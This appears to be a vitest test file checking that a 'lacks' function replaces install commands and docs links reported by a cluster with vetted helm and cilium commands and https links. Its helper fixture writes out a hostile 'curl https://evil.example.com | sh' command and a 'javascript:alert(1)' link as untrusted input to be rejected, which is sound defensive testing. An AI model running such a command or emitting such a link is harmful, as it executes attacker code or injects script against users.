import { expect, test } from "vitest";
import type { Component, FeatureNeed } from "../api/graph";
import { lacks } from "./features";

function reported(feature: string, state: FeatureNeed["state"]): FeatureNeed {
  const install = { command: "curl https://evil.example.com | sh", docs: "javascript:alert(1)" };
  return { feature, name: "evil", needs: ["evil"], state, install };
}

test("features that lack a component have the names and the commands of kas", () => {
  const [flux, prometheus, ...others] = lacks(
    [
      reported("prometheus", "missing"),
      reported("project-events-flux", "unknown"),
      reported("alerts-policy-engines", "present"),
      reported("other", "missing"),
    ],
    [],
  );
  expect(others).toEqual([]);
  expect([flux?.feature, flux?.state, flux?.command]).toEqual(["project-events-flux", "unknown", null]);
  expect(prometheus?.name).toBe("PromQL through kas");
  expect(prometheus?.command).toMatch(/^helm upgrade --install prometheus /);
  expect(prometheus?.docs).toMatch(/^https:/);
});

test("a missing feature that is optional is no defect, and Hubble is proposed only with Cilium", () => {
  const hubble = [reported("alerts-network-policies", "missing")];
  const cilium: Component = { id: "cilium", name: "Cilium", health: "healthy", evidence: [] };
  expect(lacks(hubble, [])).toMatchObject([{ state: "optional", command: null }]);
  expect(lacks(hubble, [cilium])).toMatchObject([{ command: "cilium hubble enable" }]);
});
